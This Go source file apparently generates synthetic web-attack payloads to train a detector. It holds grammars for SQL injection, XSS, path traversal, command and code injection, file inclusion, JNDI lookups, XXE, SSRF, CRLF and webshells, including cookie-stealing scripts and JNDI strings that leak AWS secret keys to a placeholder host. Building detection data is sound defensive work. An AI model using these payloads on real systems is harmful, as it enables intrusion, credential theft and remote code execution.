package main

import "math/rand/v2"

// attackClasses are the classes that payload writes, each with its weight:
// how often it is drawn. Classes with plenty of real rows (sqli, xss) need
// fewer written ones.
var attackClasses = []struct {
	name   string
	weight int
}{
	{"sqli", 4},
	{"xss", 5},
	{"traversal", 6},
	{"cmdi", 6},
	{"code-injection", 6},
	{"file-inclusion", 3},
	{"lookup", 3},
	{"xxe", 2},
	{"ssrf", 3},
	{"crlf", 1},
	{"webshell", 2},
}

// attackGrammars is read-only.
var attackGrammars = map[string]grammar{
	"sqli": with(grammar{
		"start": {
			"{num}{q}{s}{or}{s}{taut}{cmt}", "{q}{s}{or}{s}{taut}{cmt}", "{word}{q}{s}{or}{s}{taut}{cmt}", "{word}{q}{cmt}", "admin{q}{cmt}",
			"{num}{q}{close}{s}union{s}select{s}{cols}{cmt}", "{num}{q}{close}{s}union{s}all{s}select{s}{cols}{from}{cmt}", "-{num}{q}{s}union{s}select{s}{cols}{from}{cmt}",
			"{num}{q}{s}and{s}{cond}{cmt}", "{num}{q}{close}{s}and{s}{cond}{cmt}", "{num}{q}{s}and{s}{blind}{cmt}", "{num}{q};{s}{stack}{cmt}", "{num}{s}{or}{s}{taut}", "{num}{s}and{s}{cond}", "{num}{s}and{s}{blind}",
			"{num}{q}{s}order{s}by{s}{num}{cmt}", "{num}{q}{s}group{s}by{s}{word}{s}having{s}{taut}{cmt}", "{num}{q}||{func}||{q}", "{q}+{func}+{q}", "(select({s}{func}{s}))", "{num}{q}{s}procedure{s}analyse(extractvalue(rand(),concat(0x3a,version())),1){cmt}",
			"{num}{q}{s}and{s}{err}{cmt}", "{num}{s}and{s}{err}", "if(now()=sysdate(),sleep({num}),0)", "{num}{q}{s}rlike{s}sleep({num}){cmt}", "{q}{s}waitfor{s}delay{s}'0:0:{d}'{cmt}", "{num};{s}waitfor{s}delay{s}'0:0:{d}'{cmt}", "{num}{q}{s}like{s}{q}%", "{word}{q}{s}in{s}boolean{s}mode){s}union{s}select{s}{cols}{cmt}", "{num}{s}into{s}outfile{s}'/var/www/{word}.php'{cmt}", "{num}{q}{s}union{s}select{s}load_file(0x2f6574632f706173737764){cmt}",
		},
		"q":     {"'", "'", "\"", "')", "'))", "\")", "", "`", "%27", "\\'"},
		"close": {"", "", ")", "))"},
		"s":     {" ", " ", " ", "/**/", "+", "\t", "%0a", "/*{word}*/", "  "},
		"or":    {"or", "||", "OR", "Or", "xor", "&&", "and"},
		"taut":  {"{d}={d}", "1=1", "'1'='1", "'{c}'='{c}", "\"a\"=\"a", "{num}<{num}", "not{s}false", "true", "1{s}like{s}1", "{num}{s}in{s}({num})", "'{c}'{s}like{s}'%", "{num}{s}between{s}{d}{s}and{s}{num}", "'1'='1'({s}"},
		"cmt":   {"--", "-- ", "--+", "#", "/*", ";--", "", "", ";%00", "-- -", "{s}and{s}'1'='1"},
		"cols":  {"null,null", "1,2,3", "1,2,3,4,5", "null,version(),null", "user(),database()", "@@version,2", "1,group_concat({word}),3", "concat(0x7e,{func},0x7e),2", "{num},{num},{word}", "username,password", "char(97,98),null", "1,table_name"},
		"from":  {"", "{s}from{s}users", "{s}from{s}information_schema.tables", "{s}from{s}{word}", "{s}from{s}dual", "{s}from{s}mysql.user", "{s}from{s}sysobjects", "{s}from{s}information_schema.columns{s}where{s}table_name='{word}'", "{s}from{s}pg_tables"},
		"cond":  {"{num}={num}", "1=1", "1=2", "{num}>{num}", "ascii(substring({func},{d},1))>{num}", "length(database())={d}", "(select{s}count(*){from})>0", "exists(select{s}*{from})", "substr(version(),1,1)={d}", "'{c}'='{c}", "mid(user(),{d},1)='{c}'"},
		"blind": {"sleep({num})", "benchmark(1000000,md5({num}))", "(select{s}*{s}from{s}(select(sleep({d})))a)", "pg_sleep({d})", "{num}=(select{s}{num}{s}from{s}pg_sleep({d}))", "dbms_pipe.receive_message('{c}',{d})", "if(1=1,sleep({d}),0)", "(select{s}case{s}when{s}(1=1){s}then{s}sleep({d}){s}else{s}0{s}end)"},
		"stack": {"drop{s}table{s}{word}", "insert{s}into{s}{word}{s}values({num},'{word}')", "update{s}{word}{s}set{s}password='{word}'", "delete{s}from{s}{word}", "exec{s}xp_cmdshell('{unix}')", "exec{s}master..xp_dirtree'\\\\{host}\\a'", "shutdown", "declare{s}@a{s}varchar(99)", "select{s}{func}", "create{s}user{s}{word}"},
		"err":   {"extractvalue(1,concat(0x7e,({func})))", "updatexml(1,concat(0x7e,({func}),0x7e),1)", "(select{s}1{s}from(select{s}count(*),concat({func},floor(rand(0)*2))x{s}from{s}information_schema.tables{s}group{s}by{s}x)a)", "convert(int,@@version)", "cast({func}{s}as{s}int)", "ctxsys.drithsx.sn(1,({func}))", "exp(~(select*from(select{s}user())x))", "gtid_subset({func},1)"},
		"func":  {"version()", "@@version", "user()", "database()", "current_user", "select{s}user()", "select{s}password{from}", "char(113)", "concat(0x71,0x71)", "sleep({d})", "hex(user())", "load_file('/etc/passwd')", "utl_http.request('http://{host}')", "schema_name"},
	}),
	"xss": with(grammar{
		"start": {"{brk}<script>{js}</script>", "{brk}<script src={q}//{host}/{word}.js{q}></script>", "{brk}<{tag}{s}{ev}={q}{js}{q}>", "{brk}<{tag}{s}src={word}{s}{ev}={js}>", "{brk}<{tag}/{ev}={js}>", "{brk}<svg><animate{s}onbegin={js}{s}attributeName=x>", "{brk}<iframe{s}src={q}javascript:{js}{q}>", "{brk}<a{s}href={q}javascript:{js}{q}>{word}</a>", "\"{s}{ev}={q}{js}{q}{s}x=\"", "'{s}{ev}='{js}", "\"{s}autofocus{s}onfocus={js}{s}\"", "';{js};//", "\";{js};//", "'-{js}-'", "</script><script>{js}</script>", "javascript:{js}", "java&#x0a;script:{js}", "{brk}<img{s}src=x{s}onerror={js}>", "<<script>{js}//<</script>", "{brk}<body{s}onload={js}>", "{brk}<details{s}open{s}ontoggle={js}>", "{brk}<object{s}data=data:text/html;base64,{b64}></object>", "{brk}<embed{s}src=//{host}/{word}.svg>", "{brk}<meta{s}http-equiv=refresh{s}content={q}0;url=javascript:{js}{q}>", "{brk}<math><mtext><img{s}src{s}onerror={js}></mtext></math>", "{brk}<input{s}onfocus={js}{s}autofocus>", "{brk}<marquee{s}onstart={js}>", "data:text/html,<script>{js}</script>", "{brk}<style>@import'//{host}/{word}.css';</style>", "{brk}<form{s}action={q}javascript:{js}{q}><input{s}type=submit>", "&lt;script&gt;{js}&lt;/script&gt;", "{brk}<ScRiPt>{js}</sCrIpT>", "{brk}<scr<script>ipt>{js}</scr</script>ipt>", "{brk}<link{s}rel=import{s}href=//{host}>", "{brk}<video><source{s}onerror={js}></video>", "{brk}<xml{s}onreadystatechange={js}>"},
		"brk":   {"", "", "\">", "'>", "\"'>", "</title>", "</textarea>", "-->", "]]>", "{word}", "\"/>", "%22%3e"},
		"tag":   {"img", "svg", "body", "input", "iframe", "video", "audio", "div", "details", "a", "button", "select", "textarea", "object", "b", "keygen", "p", "table", "image", "isindex", "x", "custom"},
		"ev":    {"onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onstart", "onpageshow", "onanimationend", "onpointerenter", "onbegin", "oninput", "onblur", "onkeyup", "onwheel", "onscroll", "onmouseenter", "oncut", "ondblclick", "onsubmit", "OnErRoR"},
		"js":    {"alert({num})", "alert(1)", "alert('{word}')", "alert(document.cookie)", "alert(document.domain)", "confirm({num})", "prompt({num})", "prompt`{num}`", "alert`1`", "console.log({num})", "eval(atob('{b64}'))", "eval(String.fromCharCode(97,108,101,114,116))", "document.location='http://{host}/?c='+document.cookie", "new Image().src='//{host}/'+document.cookie", "fetch('//{host}/?'+document.cookie)", "window['alert']({num})", "top[/al/.source+/ert/.source]({num})", "(alert)({num})", "self['ale'+'rt']({num})", "import('//{host}/x.js')", "document.write('<script src=//{host}></script>')", "$.getScript('//{host}')", "setTimeout('alert({num})',{num})", "throw onerror=alert,{num}", "[].constructor.constructor('alert(1)')()", "location.href='//{host}'", "document.body.innerHTML='{word}'", "window.open('//{host}')", "alert(&#39;{word}&#39;)", "\\u0061lert({num})", "print()"},
		"q":     {"\"", "'", "", "`"},
		"s":     {" ", " ", "/", "\t", "\n", "%09", "%0c"},
	}),
	"traversal": with(grammar{
		"start": {"{dots}{unixf}", "{dots}{unixf}", "{dots}{unixf}{end}", "{dots}{winf}", "{dots}{winf}{end}", "{dots}{appf}", "{word}/{dots}{unixf}", "{word}.{ext}/{dots}{unixf}", "/{unixf}", "file:///{unixf}", "c:\\{winf}", "c:/{winf}", "{dots}", "{dots}{word}/{word}.{ext}", "/static/{dots}{unixf}", "/{word}/{dots}{appf}", "\\\\{host}\\share\\{word}", "/var/www/{dots}{unixf}", "....//....//....//{unixf}", "..././..././..././{unixf}", "/..;/..;/{word}", "{word}/..;/{word}/..;/{word}"},
		"dots":  {"{up}{up}{up}", "{up}{up}{up}{up}", "{up}{up}{up}{up}{up}", "{up}{up}{up}{up}{up}{up}{up}{up}", "{up}", "{up}{up}", "{upw}{upw}{upw}", "{upw}{upw}{upw}{upw}{upw}{upw}", "{upe}{upe}{upe}{upe}", "{upe}{upe}{upe}", "{upf}{upf}{upf}{upf}"},
		"up":    {"../"},
		"upw":   {"..\\"},
		"upe":   {"..%2f", "%2e%2e%2f", "%2e%2e/", "..%252f", "%252e%252e%252f", "..%c0%af", "%c0%ae%c0%ae/", "..%5c", "%2e%2e%5c", "..%255c", "..%u2215", "%uff0e%uff0e/"},
		"upf":   {"....//", "....\\/", "..;/", ".././", "..//", "./../", ".\\..\\", "/.../"},
		"end":   {"%00", "%00.{ext}", "\x00.{ext}", "?", "#", ".{ext}", "/.", "%00.html"},
		"ext":   {"php", "jpg", "png", "html", "txt", "jsp", "asp", "pdf", "css"},
	}),
	"cmdi": with(grammar{
		"start": {"{pre}{sep}{sp}{unix}", "{pre}{sep}{sp}{unix}{post}", "{pre}$({unix})", "{pre}`{unix}`", "{pre}{sep}{sp}{win}", "{pre}{sep}{sp}{win}{post}", "{pre}\"{sep}{unix}{sep}\"", "{pre}'{sep}{unix}{sep}'", "{pre}%0a{unix}", "{pre}\n{unix}", "() { :;}; {unix}", "() { :; }; echo; /bin/bash -c \"{unix}\"", "() { ignored; }; {unix}", "{unix}", "/bin/sh -c '{unix}'", "/bin/bash -c {unix}", "cmd.exe /c {win}", "{pre}|{unix}", "{pre};{unix};", "{pre}&&{unix}", "{pre}||{unix}", "-exec {unix} ;", "--use-compress-program={unix}", "{pre}<!--#exec cmd=\"{unix}\"-->", "{pre}\r\n{unix}", "${{{sp}IFS}}{unix}"},
		"pre":   {"", "{num}", "{word}", "{ip}", "{word}.jpg", "{host}", "a"},
		"sep":   {";", "|", "||", "&&", "&", "\n", "%0a", ";;", "|&", "\r\n", "%26%26", "%7c", "%3b"},
		"sp":    {"", " ", " ", "$IFS", "\t", "+"},
		"post":  {";", " #", "|", "&", " 2>&1", "", ";echo {word}", " > /tmp/{word}", "\n"},
	}),
	"code-injection": with(grammar{
		"start":  {"{php}", "{php}", "{el}", "{el}", "{ssti}", "{ssti}", "{java}", "{node}", "{py}", "{ruby}", "{ser}"},
		"php":    {"<?php {phpc} ?>", "<?={phpc}?>", "<?php @eval($_POST['{word}']);?>", "<?php system($_GET['{word}']); ?>", "{phpc}", "{word};{phpc}", "{word}');{phpc}//", "${@{phpf}({num})}", "{${phpinfo()}}", "a:1:{s:4:\"{word}\";{ser}}", "assert({phpc})", "call_user_func_array('system',array('{unix}'))", "?s=index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]={unix}", "{if:assert($_REQUEST[{word}])}{end if}", "-d allow_url_include=1 -d auto_prepend_file=php://input", "_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]={unix}", "create_function('','{phpc}')", "preg_replace('/.*/e','{phpc}','')", "file_put_contents('{word}.php','<?php {phpc}')"},
		"phpc":   {"phpinfo();", "system('{unix}');", "echo md5({num});", "print(md5({num}));", "eval($_POST[{word}]);", "eval(base64_decode('{b64}'));", "passthru('{unix}');", "shell_exec('{unix}');", "die(md5({num}));", "exec('{unix}');", "var_dump(md5({num}));", "echo `{unix}`;", "file_get_contents('/etc/passwd');", "print({num}*{num});", "@assert($_REQUEST['{word}']);"},
		"phpf":   {"print", "phpinfo", "md5", "system", "eval", "var_dump"},
		"el":     {"${{expr}}", "%{{expr}}", "#{{expr}}", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='{unix}').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}", "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{\"{unix}\"})).start()}", "(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)", "redirect:${#req=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletRequest')}", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{{word}}i", "T(java.lang.Runtime).getRuntime().exec('{unix}')", "${T(java.lang.Runtime).getRuntime().exec(\"{unix}\")}", "spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec(\"{unix}\")", "${\"freemarker.template.utility.Execute\"?new()(\"{unix}\")}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"{unix}\")}", "method:#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,#{word}=@java.lang.Runtime@getRuntime().exec(#parameters.cmd[0])", "''['class'].forName('java.lang.Runtime').getRuntime().exec('{unix}')"},
		"expr":   {"{num}*{num}", "7*7", "T(java.lang.System).getenv()", "@java.lang.Runtime@getRuntime().exec('{unix}')", "''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass())", "#rt=@java.lang.Runtime@getRuntime(),#rt.exec('{unix}')", "new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('{unix}').getInputStream()).next()", "applicationScope", "pageContext.request.getSession()"},
		"ssti":   {"{{ {tpl} }}", "{{{tpl}}}", "{% {tpl} %}", "{{{word}.{tpl}}}", "<%= {num}*{num} %>", "#set($x={num}*{num})$x", "${{{num}*{num}}}", "{{constructor.constructor('alert(1)')()}}", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('{unix}')}}", "{php}{phpc}{/php}", "{system('{unix}')}", "{{['{unix}']|filter('system')}}", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "*{T(java.lang.Runtime).getRuntime().exec('{unix}')}", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"{unix}\").getInputStream()).next()}__::.x"},
		"tpl":    {"{num}*{num}", "7*7", "'7'*7", "config", "config.items()", "self.__init__.__globals__.__builtins__.__import__('os').popen('{unix}').read()", "''.__class__.__mro__[1].__subclasses__()", "request.application.__globals__.__builtins__.__import__('os').popen('{unix}').read()", "cycler.__init__.__globals__.os.popen('{unix}').read()", "lipsum.__globals__['os'].popen('{unix}').read()", "request|attr('application')", "app.request.server.all|join(',')", "dump(app)"},
		"java":   {"{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"{jproto}://{host}{port}/{word}\",\"autoCommit\":true}", "{\"{word}\":{\"@type\":\"java.net.Inet4Address\",\"val\":\"{host}\"}}", "{\"@type\":\"java.lang.Class\",\"val\":\"com.sun.rowset.JdbcRowSetImpl\"}", "[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://{host}/{word}.xml\"]", "java.lang.Runtime.getRuntime().exec(\"{unix}\")", "new java.lang.ProcessBuilder(\"{unix}\").start()", "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>{unix}</string></void></array><void method=\"start\"/></object></java>", "<%Runtime.getRuntime().exec(request.getParameter(\"{word}\"));%>", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://{host}/\"]]]]", "<sorted-set><string>{word}</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>{unix}</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>", "System.setProperty(\"{word}\",\"1\");Runtime.getRuntime().exec(\"{unix}\")", "def p=\"{unix}\".execute().text"},
		"jproto": {"rmi", "ldap", "ldaps", "dns"},
		"node":   {"require('child_process').exec('{unix}')", "global.process.mainModule.require('child_process').execSync('{unix}')", "process.binding('spawn_sync')", "__proto__[{word}]={word}", "{\"__proto__\":{\"{word}\":\"{unix}\"}}", "constructor[prototype][{word}]={num}", "{\"$where\":\"sleep({num}000)\"}", "{\"username\":{\"$ne\":null},\"password\":{\"$gt\":\"\"}}", "{word}[$ne]={num}", "{word}[$regex]=.*", "';return true;var a='", "(function(){return process.env})()", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('{unix}')}()\"}"},
		"py":     {"__import__('os').system('{unix}')", "__import__('os').popen('{unix}').read()", "eval(compile('import os;os.system(\"{unix}\")','','exec'))", "!!python/object/apply:os.system ['{unix}']", "cos\\nsystem\\n(S'{unix}'\\ntR.", "exec('import os;os.system(\"{unix}\")')"},
		"ruby":   {"<%= `{unix}` %>", "<%= system('{unix}') %>", "#{`{unix}`}", "Kernel.exec('{unix}')", "--- !ruby/object:Gem::Installer\\ni: x"},
		"ser":    {"O:{d}:\"{word}\":{d}:{s:{d}:\"{word}\";s:{d}:\"{unix}\";}", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldA{b64}", "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9u{b64}", "aced0005737200116a6176612e7574696c2e48617368", "AAEAAAD/////AQAAAAAAAAAMAgAAAE{b64}", "O:21:\"JDatabaseDriverMysqli\":3:{s:2:\"fc\";O:17:\"JSimplepieFactory\":0:{}}", "gASV{b64}", "H4sIAAAAAAAAA{b64}"},
	}),
	"file-inclusion": with(grammar{
		"start": {"php://filter/convert.base64-encode/resource={appf}", "php://filter/read=string.rot13/resource={appf}", "php://input", "data://text/plain;base64,{b64}", "data:text/plain,<?php phpinfo();?>", "expect://{unix}", "zip://{word}.jpg%23{word}.php", "phar://{word}.phar/{word}.php", "file:///{unixf}", "http://{host}{port}/{word}.txt?", "https://{host}/{word}.php?", "http://{host}/{word}/cmd.txt??", "ftp://{host}/{word}.txt", "//{host}/{word}.txt", "/{unixf}", "/{unixf}%00", "/proc/self/environ", "/proc/self/fd/{num}", "/var/log/apache2/access.log", "php://filter/zlib.deflate/convert.base64-encode/resource=/{unixf}", "glob:///{unixf}", "\\\\{host}\\{word}\\{word}.php", "compress.zlib://http://{host}/{word}", "http://{host}/shell.txt?cmd={unix}"},
	}),
	"lookup": with(grammar{
		"start": {"${jndi:{p}://{host}{port}/{word}}", "${jndi:{p}://{host}{port}/{word}}", "${{j}{n}{di}:{p}://{host}{port}/{word}}", "${jndi:${lower:l}${lower:d}ap://{host}{port}/{word}}", "${${::-j}${::-n}${::-d}${::-i}:{p}://{host}/{word}}", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap://{host}/{word}}", "${jndi:{p}://${env:{env}}.{host}/{word}}", "${jndi:{p}://${hostName}.{host}/a}", "${${lower:jndi}:${lower:{p}}://{host}/{word}}", "${jndi:{p}://127.0.0.1#{host}/{word}}", "${env:{env}}", "${sys:java.version}", "${java:os}", "${script:javascript:java.lang.Runtime.getRuntime().exec('{unix}')}", "${url:UTF-8:http://{host}}", "${dns:address|{host}}", "${ctx:loginId}", "%24%7Bjndi:{p}://{host}/{word}%7D", "${j${k8s:k5:-ND}i${sd:k5:-:}{p}://{host}/{word}}", "${jnd${upper:ı}:{p}://{host}/{word}}"},
		"p":     {"ldap", "ldap", "ldaps", "rmi", "dns", "iiop", "nis", "corba", "http"},
		"j":     {"${lower:j}", "${upper:j}", "j", "${::-j}", "${env:X:-j}"},
		"n":     {"${lower:n}", "n", "${::-n}"},
		"di":    {"di", "${lower:d}i", "${::-d}${::-i}", "d${lower:i}"},
		"env":   {"AWS_SECRET_ACCESS_KEY", "USER", "PATH", "HOSTNAME", "AWS_ACCESS_KEY_ID"},
	}),
	"xxe": with(grammar{
		"start": {"<?xml version=\"1.0\"?><!DOCTYPE {word} [<!ENTITY {word} SYSTEM \"{uri}\">]><{word}>&{word};</{word}>", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE r [<!ELEMENT r ANY ><!ENTITY sp SYSTEM \"{uri}\">]><r>&sp;</r>", "<!DOCTYPE {word} [<!ENTITY % {word} SYSTEM \"{uri}\"> %{word};]>", "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>", "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"{uri}\"/></foo>", "<!DOCTYPE svg [<!ENTITY x SYSTEM \"{uri}\">]><svg>&x;</svg>", "<?xml version=\"1.0\"?><!DOCTYPE {word} PUBLIC \"-//{word}\" \"{uri}\">"},
		"uri":   {"file:///{unixf}", "file:///c:/{winf}", "http://{host}{port}/{word}.dtd", "http://169.254.169.254/latest/meta-data/", "php://filter/convert.base64-encode/resource={appf}", "expect://{unix}", "netdoc:///{unixf}", "ftp://{host}/{word}", "jar:http://{host}/{word}.jar!/"},
	}),
	"ssrf": with(grammar{
		"start": {"http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/", "http://100.100.100.200/latest/meta-data/", "gopher://{lo}:6379/_*1%0d%0a$8%0d%0aflushall", "gopher://{lo}:{num}/_{word}", "dict://{lo}:6379/info", "dict://{lo}:11211/stats", "http://{lo}:{num}/", "http://{lo}/server-status", "http://{lo}:8500/v1/agent/self", "http://{lo}:2375/containers/json", "http://{lo}:9200/_cat/indices", "ldap://{lo}:389/{word}", "tftp://{ip}:69/{word}", "sftp://{host}:22/", "http://[::]:{num}/", "http://[::1]/admin", "http://[::ffff:127.0.0.1]/", "http://0x7f000001/", "http://2130706433/", "http://0177.0.0.1/", "http://{lo}@{host}/", "http://{host}#@{lo}/", "http://{lo}.nip.io/", "netdoc:///{unixf}", "file:///{unixf}", "http://localhost:22", "http://{lo}/admin/delete?user={word}", "jar:http://{host}!/"},
		"lo":    {"127.0.0.1", "localhost", "0.0.0.0", "127.1", "0", "127.0.1.3", "localtest.me", "10.0.0.1", "192.168.0.1"},
	}),
	"crlf": with(grammar{
		"start": {"{word}\r\nSet-Cookie: {word}={num}", "%0d%0aSet-Cookie:{word}={word}", "%0d%0aLocation:%20http://{host}", "{word}%0d%0aContent-Length:0%0d%0a%0d%0aHTTP/1.1 200 OK", "%E5%98%8A%E5%98%8DSet-Cookie:{word}", "\r\nX-Injected: {word}", "%0aX-Forwarded-Host:{host}", "{word}\r\n\r\n<script>alert(1)</script>", "/%0d%0aHost:{host}", "%23%0dLocation:%20//{host}"},
	}),
	"webshell": with(grammar{
		"start": {"<?php @eval($_POST['{word}']);?>", "<?php system($_REQUEST['{word}']);?>", "<%eval request(\"{word}\")%>", "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"{word}\"],\"unsafe\");%>", "<% Runtime.getRuntime().exec(request.getParameter(\"{word}\")); %>", "<?php $f=$_GET['{word}'];$f($_POST['{word}']);?>", "<?php assert(base64_decode('{b64}'));?>", "GIF89a<?php eval($_POST[{word}]);?>", "<?php file_put_contents('{word}.php',base64_decode('{b64}'));?>", "{word}=@ini_set(\"display_errors\",\"0\");@set_time_limit(0);echo \"->|\";", "{word}=system('{unix}');", "{word}=eval(base64_decode($_POST[z0]));&z0={b64}", "<%!String c=\"\";Class d(byte[] b){}%><%new U(this.getClass().getClassLoader()).g(base64Decode(request.getParameter(\"{word}\")))%>", "<?=`$_GET[{d}]`?>", "<script language=\"php\">eval($_POST[{word}]);</script>", "<jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter(\"{word}\"));</jsp:scriptlet>"},
	}),
}

// drawAttack returns a payload and its class.
func drawAttack(r *rand.Rand) (payload, class string) {
	total := 0
	for _, c := range attackClasses {
		total += c.weight
	}
	n := r.IntN(total)
	for _, c := range attackClasses {
		if n -= c.weight; n < 0 {
			return attackGrammars[c.name].write(r, "start"), c.name
		}
	}
	return "", ""
}
